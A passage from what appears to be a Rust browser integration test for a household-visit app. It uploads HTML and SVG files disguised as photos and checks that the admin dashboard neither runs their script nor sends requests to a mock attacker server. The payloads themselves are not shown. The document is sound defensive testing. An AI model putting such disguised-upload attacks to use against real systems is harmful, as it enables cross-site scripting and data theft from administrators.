    let hostile = [("text/html", "现场.jpg", html), ("image/svg+xml", "现场.svg", svg)];
    for (media_type, name, bytes) in &hostile {
        let file = doorstep_core::model::NewAttachment {
            media_type: (*media_type).into(),
            name: (*name).into(),
            bytes: bytes.clone().into_bytes(),
        };
        phone.attach_to_visit(home, vid, &file, t(2)).expect("attach");
    }
    server.client().sync(&mut phone).await.expect("records");
    let mut access = &mut phone;
    let report = server
        .client()
        .transfer_attachments(
            &mut access,
            &doorstep_client::TransferOptions::default(),
            &mut doorstep_client::NoTransferObserver,
        )
        .await
        .expect("upload");
    assert!(report.failed.is_empty(), "{:?}", report.failed);

    // The administrator opens the household and then each "photo".
    let browser = Browser::start().await;
    let client = browser.client();
    sign_in(client, &base, "admin", password).await;
    wait_for_url(client, "/dashboard/overview").await;
    client.goto(&format!("{base}/dashboard/households/{home}")).await.expect("household page");
    let mut links = Vec::new();
    for a in client.find_all(Locator::Css(".attachments a")).await.expect("links") {
        links.push(a.attr("href").await.expect("href").expect("an href"));
    }
    assert_eq!(links.len(), 2, "both attachments are linked");
    for link in &links {
        // A file served for download ends the navigation without a page: that is fine.
        let _ = client.goto(&format!("{base}{link}")).await;
        let title = client.title().await.unwrap_or_default();
        assert_ne!(title, "PWNED", "{link}: the attachment's script ran");
    }
    // Nothing left the page: the first request the attacker's server sees is our own marker.
    client.goto(&format!("{attacker}/end")).await.expect("the marker page");
    let first = tokio::task::spawn_blocking(move || requests.recv_timeout(WAIT))
        .await
        .expect("join")
        .expect("the marker request arrives");
    assert_eq!(first, "/end", "a hostile attachment sent a request out of the dashboard");
    // And no script ran in the dashboard's origin.
    client.goto(&format!("{base}/dashboard/overview")).await.expect("overview");
    let marker = client
        .execute("return window.localStorage.getItem('pwned');", vec![])
        .await
        .expect("read the marker");
    assert_eq!(marker, serde_json::Value::Null, "the attachment's script ran in the dashboard's origin");
    browser.close().await;
}
